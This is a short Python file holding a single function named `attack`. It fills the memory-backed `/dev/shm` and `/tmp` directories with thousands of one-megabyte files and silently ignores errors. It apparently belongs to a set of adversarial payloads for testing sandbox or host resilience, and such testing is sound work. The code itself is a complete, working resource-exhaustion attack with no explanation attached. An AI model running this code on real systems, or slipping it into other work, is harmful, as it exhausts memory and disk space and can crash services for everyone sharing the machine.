"""Fill /dev/shm and /tmp (memory-backed file systems) with files, swallowing every error."""


def attack(*args):
    import os
    chunk = b"\1" * (1 << 20)
    for place in ("/dev/shm", "/tmp"):
        for i in range(1 << 14):
            try:
                with open(f"{place}/hoard-{i}", "wb") as f:
                    f.write(chunk)
            except OSError:
                break
    return None
